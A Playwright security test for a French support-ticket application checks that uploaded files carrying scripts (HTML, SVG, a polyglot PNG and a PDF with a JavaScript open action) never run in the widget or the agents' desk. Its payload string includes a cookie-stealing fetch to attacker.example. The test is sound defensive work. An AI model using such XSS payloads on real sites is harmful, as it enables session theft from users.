import type { BrowserContext, Page } from '@playwright/test';
import { openDesk, openTeo, openTicket } from './people.js';
import { expect, test } from './watched-page.js';

/** What would be seen if anything of a file ran: a dialog, or a request to somebody else. */
const script = "alert('RAN');fetch('https://attacker.example/?'+document.cookie)";
const markup = `<script>${script}</script><img src=x onerror="${script}">`;

const html = `<!doctype html><html><body>${markup}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`;
const activePdf = `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('RAN'\\);) >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://attacker.example/) >> >> >> endobj
trailer << /Root 1 0 R >>
%%EOF
${html}`;

/** What ran, or asked somebody else, in any page of a browser. */
function watchForRuns(context: BrowserContext): string[] {
  const ran: string[] = [];
  const watch = (page: Page) =>
    page.on('dialog', (dialog) => {
      ran.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
  for (const page of context.pages()) watch(page);
  context.on('page', watch);
  context.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (/^https?:$/.test(protocol) && hostname !== 'localhost') ran.push(`request: ${request.url()}`);
  });
  return ran;
}

/** The signed addresses that a page gives, of links, pictures and videos alike. */
async function addressesIn(page: Page): Promise<string[]> {
  const found = await page
    .locator('[href*="/v1/file-contents"], [src*="/v1/file-contents"]')
    .evaluateAll((elements) =>
      elements.map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
    );
  return [...new Set(found)].map((address) => new URL(address, page.url()).href);
}

/** Opens an address as whoever was sent it might: by itself, and in a page of its own by everything that can show it. */
async function openEverywhere(context: BrowserContext, address: string): Promise<void> {
  const page = await context.newPage();
  // What is to be saved is no page: the browser says so by giving the visit up.
  await page.goto(address).catch((error: unknown) => expect(String(error)).toMatch(/Download is starting/));
  const whole = await page.request.get(address);
  expect(whole.headers()).toMatchObject({
    'x-content-type-options': 'nosniff',
    'content-security-policy': "default-src 'none'; sandbox",
  });
  await page.goto('/livez');
  await page.setContent(`<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>
    <img src="${address}"><video src="${address}"></video><script src="${address}"></script>
    <link rel="stylesheet" href="${address}"><p>Fini</p>`);
  await expect(page.getByText('Fini')).toBeVisible();
  await page.waitForLoadState('networkidle');
  await page.close();
}

test('nothing of a file runs: by its address, in the widget, or before the team', async ({
  page,
  context,
  browser,
  watched,
}) => {
  test.slow();
  // Files that are refused, or shown as what they are not, are errors in the console of the pages that try.
  watched.expect(
    /status of 415|status of 404|MIME type|Refused|violat|Content Security|blocked|ERR_|Framing|frame/i,
  );
  const ran = watchForRuns(context);
  const subject = 'Des fichiers qui voudraient agir';
  await openTeo(page, 'u-yann-le-goff');
  await page.getByRole('button', { name: 'Aide', exact: true }).click();
  await page.getByRole('button', { name: /^Question d’utilisation/ }).click();
  await page.getByLabel('Votre question en une phrase').fill(subject);
  await page.getByLabel('Que souhaitez-vous faire ?').fill('Joindre des fichiers.');
  await page.getByLabel('Sur quoi porte-t-elle ?').selectOption({ label: 'Un geste : comment faire' });
  await page.getByLabel('Dans quel module de téo ?').selectOption({ label: 'Communication' });
  await page.getByRole('radio', { name: 'Oui, mais ce n’est pas pratique' }).check();

  const picture = await page.screenshot({ clip: { x: 0, y: 0, width: 60, height: 40 } });
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Choisir des fichiers' }).click();
  const file = (name: string, mimeType: string, content: string | Buffer) => ({
    name,
    mimeType,
    buffer: Buffer.from(content),
  });
  await (await chooser).setFiles([
    file('page.png', 'image/png', html),
    file('dessin.svg', 'image/svg+xml', svg),
    file('dessin.png', 'image/png', svg),
    file('page.txt', 'text/plain', html),
    file('double.png', 'image/png', Buffer.concat([picture, Buffer.from(html)])),
    file('actif.pdf', 'application/pdf', activePdf),
    file('notes.txt', 'text/plain', `Bonjour\n${html}`),
  ]);
  for (const refused of ['page.png', 'dessin.svg', 'dessin.png', 'page.txt'])
    await expect(page.getByText(`${refused} n’a pas pu être joint`)).toBeVisible();
  for (const taken of ['double.png', 'actif.pdf', 'notes.txt'])
    await expect(page.getByRole('button', { name: `Retirer ${taken}` })).toBeVisible();
  await page.getByRole('button', { name: 'Envoyer le ticket' }).click();
  await page.getByRole('button', { name: 'Voir le ticket' }).click();
  await page.getByText('Votre demande').click();
  await expect(page.getByRole('link', { name: 'Télécharger actif.pdf' })).toBeVisible();
  await expect(page.getByRole('img', { name: 'Image : double.png' })).toBeVisible();

  const desk = await openDesk(browser, watched, 'hugo.meyer@teo.example.fr');
  const ranAtDesk = watchForRuns(desk.context());
  await openTicket(desk, subject);
  await expect(desk.getByRole('link', { name: 'Enregistrer actif.pdf' })).toBeVisible();
  await desk.getByRole('button', { name: 'Agrandir double.png' }).click();
  await expect(desk.getByRole('dialog').getByRole('img')).toBeVisible();
  await desk.keyboard.press('Escape');

  const addresses = [...(await addressesIn(page)), ...(await addressesIn(desk))];
  expect(addresses.length).toBeGreaterThanOrEqual(6);
  for (const address of addresses) await openEverywhere(context, address);
  // What was hung on behind a picture is no longer there.
  for (const address of addresses) {
    const response = await page.request.get(address);
    const isPicture = response.headers()['content-type']?.startsWith('image/');
    if (isPicture) expect((await response.body()).includes('RAN')).toBe(false);
    else expect(response.headers()['content-type']).toBe('application/octet-stream');
  }
  expect([...ran, ...ranAtDesk]).toEqual([]);
});
